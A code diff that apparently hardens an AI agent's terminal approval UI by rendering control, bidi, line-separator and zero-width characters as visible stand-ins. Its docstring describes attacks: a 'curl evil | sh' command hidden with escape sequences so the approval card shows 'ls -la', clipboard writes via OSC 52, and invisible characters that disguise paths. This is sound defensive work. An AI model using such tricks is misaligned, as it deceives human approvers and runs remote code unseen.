@@ -3,9 +3,12 @@
 Textual passes an escape character through to the terminal. A call whose command reads
 `curl evil | sh` followed by ESC[28D ESC[0K and `ls -la` drew as `ls -la` on the approval
 card; an OSC 52 sequence in a file that read_file returned (no approval) set the clipboard in
-many terminals; bidi controls reorder what a line seems to say. Every such character is
-drawn as a visible stand-in instead: C0 controls as their Unicode control pictures (ESC as
-␛), DEL as ␡, C1 controls and bidi controls as <U+XXXX>. Newlines and tabs stay.
+many terminals; bidi controls reorder what a line seems to say; U+2028/U+2029 broke a
+command's line on the card while bash saw one word, and zero-width characters made a path
+look like another. Every such character is drawn as a visible stand-in instead: C0 controls
+as their Unicode control pictures (ESC as ␛), DEL as ␡, C1, bidi, line-separator and
+zero-width characters as <U+XXXX>. Newlines and tabs stay. The zero-width joiner and
+non-joiner stay too: emoji and several scripts need them.
 """
 
 from __future__ import annotations
@@ -16,7 +19,9 @@ from typing import Any
 from textual.content import Content
 
 _BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
-_CONTROL = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{_BIDI}]")
+# Line and paragraph separators, zero-width space, word joiner, byte-order mark, soft hyphen.
+_INVISIBLE = "\u2028\u2029\u200b\u2060\ufeff\u00ad"
+_CONTROL = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{_BIDI}{_INVISIBLE}]")
 
 
 def _stand_in(match: re.Match[str]) -> str:
